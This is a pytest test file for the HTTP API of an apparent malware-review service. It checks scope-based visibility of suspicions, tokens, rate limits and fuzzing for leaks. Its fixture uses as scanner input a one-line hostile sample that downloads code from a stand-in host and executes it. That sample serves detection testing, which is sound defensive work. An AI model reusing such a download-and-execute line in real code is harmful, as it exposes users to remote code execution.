"""The HTTP API: what each caller sees, that nothing fails, and that no scope sees another's."""

from __future__ import annotations

import contextlib
import json
import os
import warnings
from pathlib import Path

import msgspec
import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # schemathesis and the test client have deprecations of their own
    import schemathesis
    from starlette.testclient import TestClient

from pratique.cli import main
from pratique.model import Artifact, Event, Package
from pratique.pipeline import review_files
from pratique.service.api import make_api
from pratique.service.api.app import openapi
from pratique.store import feed, open_store, tokens, verdicts
from pratique.store.decisions import Decision, decide

PROVEN, SUSPECT, QUIET = "aa" * 32, "bb" * 32, "cc" * 32
SECRETIVE = ("suspect", SUSPECT)
"""What only the scope `reviews` may see."""


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """Three reviews: one that the registry acted on, one that is only suspected, one clear."""
    made = open_store(str(tmp_path_factory.mktemp("api") / "a.sqlite"))
    found = review_files({"acme/__init__.py": b"import requests\nexec(requests.get('https://a.invalid').text)"})
    with made.write() as connection:
        for number, (name, sha256, level) in enumerate(
            [("proven", PROVEN, "block"), ("suspect", SUSPECT, "look"), ("quiet", QUIET, "clear")], 1
        ):
            upload = Event(
                ecosystem="pypi", cursor=number, kind="upload", name=name, version="1.0", filename=f"{name}.whl"
            )
            feed.take(connection, [upload])
            artifact = Artifact(
                package=Package(ecosystem="pypi", name=name, version="1.0"),
                filename=f"{name}.whl",
                kind="wheel",
                sha256=sha256,
            )
            verdict = msgspec.structs.replace(found.verdict, level=level)
            one = msgspec.structs.replace(found, artifact=artifact, verdict=verdict)
            verdicts.record(connection, [verdicts.New(number, one, "c", 0)])
        acted = Decision(
            purl="pkg:pypi/proven@1.0",
            filename="proven.whl",
            outcome="remove_malware",
            who="registry",
            at=1.0,
            proof=True,
        )
        decide(connection, acted)
        alone = Decision(
            purl="pkg:pypi/suspect@1.0",
            filename="suspect.whl",
            outcome="confirm_malware",
            who="ann",
            at=1.0,
            proof=True,
        )
        decide(connection, alone)
    yield made
    made.close()


@pytest.fixture(scope="module")
def secrets(store):
    """A token for each scope."""
    with store.write() as connection:
        return {scope: tokens.make(connection, f"t-{scope}", [scope]) for scope in tokens.SCOPES}


@pytest.fixture(scope="module")
def api(store):
    return make_api(store, anonymous=10**6, known=10**6)


@pytest.fixture
def client(api):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return TestClient(api, raise_server_exceptions=False)


def ask(client, path, secret="", **more):
    headers = {"Authorization": f"Bearer {secret}"} if secret else {}
    return client.request(more.pop("method", "GET"), path, headers=headers | more.pop("headers", {}), **more)


def test_without_a_token_only_what_is_proven(client):
    """One person's suspicion, and a quiet review, are unknown to the public."""
    page = ask(client, "/api/v1/verdicts").json()

    assert [one["filename"] for one in page["verdicts"]] == ["proven.whl"]
    assert ask(client, f"/api/v1/files/{PROVEN}").json()["level"] == "block"
    assert ask(client, f"/api/v1/files/{SUSPECT}").json() == {
        "sha256": SUSPECT, "status": "unknown", "level": None, "review": None, "at": None,
    }  # fmt: skip
    assert ask(client, "/api/v1/reviews/1").status_code == 200
    assert ask(client, "/api/v1/reviews/2").status_code == 404
    assert ask(client, "/api/v1/releases?purl=pkg:pypi/suspect@1.0").json()["known"] is False
    assert [one["title"] for one in ask(client, "/api/v1/feed.json").json()["items"]] == ["block: proven.whl"]


def test_with_the_scope_reviews_everything(client, secrets, store):
    secret = secrets["reviews"]
    assert len(ask(client, "/api/v1/verdicts", secret).json()["verdicts"]) == 3
    found = ask(client, "/api/v1/reviews/2", secret).json()
    assert found["verdict"]["sha256"] == SUSPECT
    assert found["review"]["artifact"]["filename"] == "suspect.whl"
    release = ask(client, "/api/v1/releases?purl=pkg:pypi/Suspect@1.0", secret).json()
    assert (release["known"], release["level"]) == (True, "look")
    lines = ask(client, "/api/v1/audit", secrets["audit"]).json()
    assert ("t-reviews", "review-read", "2") in {(one["who"], one["action"], one["target"]) for one in lines}


def test_pages(client, secrets):
    first = ask(client, "/api/v1/verdicts?limit=2", secrets["reviews"]).json()
    rest = ask(client, f"/api/v1/verdicts?limit=2&below={first['next']}", secrets["reviews"]).json()

    assert [one["id"] for one in first["verdicts"] + rest["verdicts"]] == [3, 2, 1]
    assert rest["next"] is None
    only = ask(client, "/api/v1/verdicts?level=look", secrets["reviews"]).json()["verdicts"]
    assert [one["id"] for one in only] == [2]


def test_many_hashes_at_once(client, secrets):
    """Each gets its answer in the order asked, twice if asked twice, and `unknown` is one."""
    asked = [SUSPECT, "00" * 32, PROVEN, SUSPECT]
    found = ask(client, "/api/v1/files", secrets["reviews"], method="POST", json={"sha256": asked}).json()["answers"]

    assert [(one["sha256"], one["status"]) for one in found] == [
        (SUSPECT, "reviewed"), ("00" * 32, "unknown"), (PROVEN, "reviewed"), (SUSPECT, "reviewed"),
    ]  # fmt: skip
    assert ask(client, "/api/v1/files", method="POST", json={"sha256": ["x"]}).status_code == 422
    assert ask(client, "/api/v1/files", method="POST", json={"sha256": ["00" * 32] * 501}).status_code == 422


SCOPED = {"/metrics": "metrics", "/api/v1/audit": "audit"}


@pytest.mark.parametrize("path", SCOPED)
@pytest.mark.parametrize("scope", ["", *tokens.SCOPES])
def test_a_scope_opens_only_its_own(client, secrets, path, scope):
    status = ask(client, path, secrets.get(scope, "")).status_code

    assert status == (200 if SCOPED[path] == scope else 403 if scope else 401)


@pytest.mark.parametrize("scope", ["", "metrics", "audit"])
@pytest.mark.parametrize(
    "path",
    ["/api/v1/verdicts", "/api/v1/feed.json", f"/api/v1/files/{SUSPECT}", "/api/v1/reviews/2", "/metrics",
     "/api/v1/releases?purl=pkg:pypi/suspect@1.0", "/api/v1/health", "/api/v1/audit"],
)  # fmt: skip
def test_no_other_scope_sees_a_suspicion(client, secrets, scope, path):
    answer = ask(client, path, secrets.get(scope, ""))
    text = answer.text.replace(f'"sha256":"{SUSPECT}"', "").replace("pkg:pypi/suspect@1.0", "")

    assert not any(word in text for word in SECRETIVE)
    assert '"level":"look"' not in text


@pytest.mark.parametrize("given", ["Bearer nonsense", "Basic YTpi", "Bearer ", "x", "Bearer \xff"])
def test_bad_tokens(client, given):
    assert ask(client, "/api/v1/verdicts", headers={"Authorization": given.encode("latin-1")}).status_code == 401


def test_unchanged_answers_are_not_sent_again(client):
    first = ask(client, "/api/v1/verdicts")
    again = ask(client, "/api/v1/verdicts", headers={"If-None-Match": first.headers["ETag"]})

    assert (again.status_code, again.content) == (304, b"")
    assert first.headers["Content-Security-Policy"] == "default-src 'none'"


def test_too_many_requests(store):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        client = TestClient(make_api(store, anonymous=3))
    statuses = [ask(client, "/api/v1/health").status_code for _ in range(5)]

    assert statuses[:3] == [200] * 3
    assert statuses[4] == 429


def test_a_database_that_is_away(tmp_path, monkeypatch):
    from pratique.store import StoreError
    from pratique.store.opened import Store

    made = open_store(str(tmp_path / "a.sqlite"))

    def away(self):
        raise StoreError("secret words of the driver")

    monkeypatch.setattr(Store, "read", away)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        answer = ask(TestClient(make_api(made)), "/api/v1/health")
    assert answer.status_code == 503
    assert "driver" not in answer.text
    made.close()


def test_metrics(client, secrets):
    text = ask(client, "/metrics", secrets["metrics"]).text

    assert 'pratique_reviews{level="block"} 1.0' in text
    assert 'pratique_jobs{lane="live",state="pending"} 3.0' in text
    assert 'pratique_latency_seconds{quantile="0.99"}' in text


def test_tokens_on_the_command_line(store, monkeypatch, capsys):
    monkeypatch.setenv("PRATIQUE_DATABASE", store.url)
    assert main(["token", "make", "cli", "--scope", "reviews", "--days", "3"]) == 0
    secret = capsys.readouterr().out.strip()
    with store.read() as connection:
        assert tokens.find(connection, secret).name == "cli"
    assert main(["token", "list"]) == 0
    out = capsys.readouterr().out
    assert "cli" in out
    assert secret not in out
    assert main(["token", "revoke", "cli"]) == 0
    assert main(["token", "revoke", "cli"]) == 2
    assert main(["token", "make", "x", "--scope", "all"]) == 2


def test_the_document_is_valid_openapi(api):
    document = json.loads(openapi(api))

    assert document["openapi"].startswith("3.1")
    assert all(path.startswith(("/api/v1/", "/metrics")) for path in document["paths"])


def test_the_security_page_lists_every_route(api):
    page = (Path(__file__).resolve().parents[2] / "docs" / "security-api.md").read_text("utf-8")
    routes = [f"`{method.upper()} {path}`" for path, methods in api.openapi()["paths"].items() for method in methods]

    assert [route for route in routes if route not in page] == []
    assert [scope for scope in tokens.SCOPES if f"`{scope}`" not in page] == []


EXAMPLES = int(os.environ.get("PRATIQUE_FUZZ", "8"))
"""Requests for each route, scope and kind of data."""
AIMED = {"number": 2, "sha256": SUSPECT, "purl": "pkg:pypi/suspect@1.0", "name": "suspect", "below": 3}
"""What leads to the suspicion, where a route takes it."""


def aim(case):
    """Let a request ask for the suspicion; otherwise it stays as it was made up."""
    for place in (case.path_parameters, case.query):
        if isinstance(place, dict):
            place.update({name: value for name, value in AIMED.items() if name in place})


@pytest.mark.parametrize("scope", ["", *tokens.SCOPES])
@pytest.mark.parametrize("mode", list(schemathesis.GenerationMode), ids=lambda mode: mode.value)
def test_no_request_breaks_it_and_none_leaks(api, secrets, scope, mode):
    """Schemathesis makes requests from the document, or against it; each is sent as it is, and aimed at the suspicion.

    There is no 5xx, each answer is one that the document describes, and none holds what only another scope may see.
    """
    from hypothesis import HealthCheck, given, settings
    from hypothesis.errors import Unsatisfiable
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import (
        content_type_conformance,
        response_schema_conformance,
        status_code_conformance,
    )

    checks = [not_a_server_error, status_code_conformance, content_type_conformance, response_schema_conformance]
    headers = {"Authorization": f"Bearer {secrets[scope]}"} if scope else {}
    limits = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck), database=None)

    def attack(case):
        for prepare in (lambda _: None, aim):
            prepare(case)
            answer = case.call(headers=headers)
            case.validate_response(answer, checks=checks)
            assert scope == "reviews" or "suspect.whl" not in answer.text

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for result in schemathesis.openapi.from_asgi("/api/v1/openapi.json", api).get_all_operations():
            strategy = result.ok().as_strategy(generation_mode=mode)
            with contextlib.suppress(Unsatisfiable):  # a route without parameters has no wrong ones
                limits(given(case=strategy)(attack))()
